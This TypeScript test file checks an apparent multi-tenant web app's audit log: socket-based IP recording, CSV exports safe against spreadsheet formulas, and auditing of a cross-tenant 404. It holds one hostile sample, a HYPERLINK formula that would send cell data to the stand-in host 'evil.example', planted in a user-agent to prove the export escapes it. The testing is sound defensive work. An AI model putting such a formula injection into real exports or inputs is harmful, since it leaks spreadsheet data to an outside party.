// The audit log at the web edge: the IP it records is the socket's (a
// client's X-Forwarded-For proves nothing without trusted proxies), its CSV
// export is spreadsheet-safe, and a plain route's refusal is recorded in the
// caller's own tenant.
import { encode } from "next-auth/jwt";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createLogger } from "@scrollintel/core/logger";
import { authSecret } from "@/env";
import { tenantRoute } from "@/server/http/edge-route";
import { SOCKET_IP_HEADER } from "@/server/http/client-ip";
import { createTrpcHandler } from "@/server/http/trpc-handler";
import { downloadResult } from "@/server/routes/download-result";
import { exportAudit } from "@/server/routes/export-audit";
import { createMember, createTenant, type TestUser } from "../../../../../test/factories";
import { createTestDb, type TestDb } from "../../../../../test/test-db";

const log = createLogger({ name: "test", level: "silent" });
let t: TestDb;
let owner: TestUser;
let cookie: string;
const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

beforeAll(async () => {
  t = await createTestDb();
  owner = await createMember(t.db, await createTenant(t.db), "OWNER");
  const token = await encode({
    token: { uid: owner.id, email: owner.email, name: "x", pa: false },
    secret: authSecret(),
  });
  cookie = `next-auth.session-token=${token}; si_tenant=${owner.slug}`;
});
afterAll(() => t.drop());

const deps = () => ({ db: t.db, storage: null as never, log });

async function createSavedQuery(headers: Record<string, string>) {
  const trpc = createTrpcHandler(() => ({ db: t.db, log }));
  const res = await trpc(
    new Request("http://localhost/api/trpc/savedQuery.create", {
      method: "POST",
      headers: { cookie, "content-type": "application/json", ...headers },
      body: JSON.stringify({ json: { name: `q-${Math.random()}`, sql: "SELECT 1" } }),
    }),
  );
  expect(res.status, await res.clone().text()).toBe(200);
  return t.db.auditEvent.findFirstOrThrow({
    where: { tenantId: owner.tenantId, action: "savedQuery.create" },
    orderBy: { seq: "desc" },
  });
}

describe("audit at the edge", () => {
  it("records the socket address, not a client's X-Forwarded-For (no trusted proxies configured)", async () => {
    const e = await createSavedQuery({ "x-forwarded-for": "6.6.6.6", [SOCKET_IP_HEADER]: "10.1.2.3" });
    expect(e.ip).toBe("10.1.2.3");
  });

  it("exports CSV with formula-like cells neutralised", async () => {
    await createSavedQuery({ "user-agent": EVIL });
    const audit = tenantRoute<object>("audit.read", exportAudit, { deps });
    const res = await audit(
      new Request("http://localhost/api/audit/export?format=csv", { headers: { cookie } }),
      undefined as never,
    );
    const csv = await res.text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
    // No cell of any line starts with a formula character.
    for (const line of csv.trim().split("\n")) {
      for (const cell of line.split(",")) expect(cell, line).not.toMatch(/^"?[=+@\t]/);
    }
  });

  it("audits a plain route's 404 on an id this tenant does not have, in this tenant", async () => {
    const download = tenantRoute<{ id: string }>("query.read", downloadResult, { deps });
    const res = await download(
      new Request("http://localhost/api/queries/someone-elses-query-id/download?format=parquet", {
        headers: { cookie },
      }),
      { params: Promise.resolve({ id: "someone-elses-query-id" }) },
    );
    expect(res.status).toBe(404);
    const e = await t.db.auditEvent.findFirstOrThrow({
      where: { tenantId: owner.tenantId, action: "refusal.not_found" },
    });
    expect(e.metadata).toMatchObject({ attempted: "GET /api/queries/:id/download" });
    expect(e.target).toMatch(/^sha256:/);
  });
});
